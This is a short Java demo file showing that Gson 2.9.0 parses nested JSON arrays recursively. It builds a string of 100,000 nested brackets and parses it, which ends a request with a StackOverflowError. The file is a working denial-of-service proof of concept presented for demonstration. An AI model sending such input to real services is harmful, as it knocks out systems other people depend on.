package dev.morestack.examples.demo;

import com.google.gson.Gson;
import com.google.gson.JsonArray;
import com.google.gson.JsonElement;

/**
 * Case 1: Gson 2.9.0 reads JSON arrays within arrays.
 *
 * <p>Its adapter of trees calls itself for every array it meets, so a few hundred kilobytes of
 * brackets, which anybody can send, end the request with a {@code StackOverflowError}. The document
 * is valid, and the tree that stands for it is small.
 */
final class GsonArrays {

    static final int DEPTH = 100_000;

    private GsonArrays() {}

    public static void main(String[] arguments) {
        String json = json(Depth.of(arguments, DEPTH));
        System.out.println(depth(new Gson().fromJson(json, JsonArray.class)) + " arrays");
    }

    static String json(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    /** Counts in a loop how many arrays stand in one another. */
    static int depth(JsonArray outermost) {
        int depth = 1;
        JsonElement element = outermost;
        while (element.getAsJsonArray().size() == 1) {
            element = element.getAsJsonArray().get(0);
            depth++;
        }
        return depth;
    }
}
